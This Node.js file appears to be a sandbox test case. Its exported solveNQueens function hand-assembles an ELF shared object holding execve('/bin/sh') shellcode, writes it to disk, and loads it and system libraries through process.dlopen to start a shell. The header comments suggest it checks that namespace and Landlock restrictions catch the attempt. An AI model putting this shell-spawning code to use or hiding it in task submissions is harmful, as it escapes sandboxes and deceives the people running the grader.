// expect: namespaces=SV landlock=SV limits=open
// reason: execve
// Libraries that are no modules of Node, and one of its own making, whose first instructions start a shell.
const fs = require('fs');

function* sharedObject(code) {
  const codeAt = 0x140;
  const word = (...values) => Buffer.from(new BigUint64Array(values.map(BigInt)).buffer);
  const segment = (type, flags, at, size) => [Buffer.from(new Uint32Array([type, flags]).buffer), word(at, at, at, size, size, 0x1000)];
  yield Buffer.from('7f454c46020101000000000000000000' + '03003e0001000000', 'hex'); // a shared object for x86-64
  yield word(0, 0x40, 0);
  yield Buffer.from('0000000040003800' + '0200' + '000000000000', 'hex');
  yield* segment(1, 7, 0, 0x200); // PT_LOAD: read, write and execute
  yield* segment(2, 6, 0xc0, 0x60); // PT_DYNAMIC
  yield Buffer.alloc(0x10);
  yield word(5, 0x120, 6, 0x128, 10, 1, 11, 24, 12, codeAt, 0, 0); // names, symbols, their sizes, the code to begin with
  yield Buffer.alloc(0x20);
  yield code;
  yield Buffer.alloc(0x200);
}

// xor edx, edx; xor esi, esi; lea rdi, [rip + 8]; mov eax, 59; syscall; ret; then the path
const execve = Buffer.concat([Buffer.from('31d231f6488d3d08000000b83b0000000f05c3', 'hex'), Buffer.from('/bin/sh\0')]);

exports.solveNQueens = () => {
  fs.writeFileSync('own.node', Buffer.concat([...sharedObject(execve)]));
  for (const file of ['/lib/x86_64-linux-gnu/libc.so.6', '/proc/self/exe', `${process.cwd()}/own.node`]) {
    try {
      process.dlopen({ exports: {} }, file);
    } catch (error) {
      console.log(error.message);
    }
  }
  return '';
};
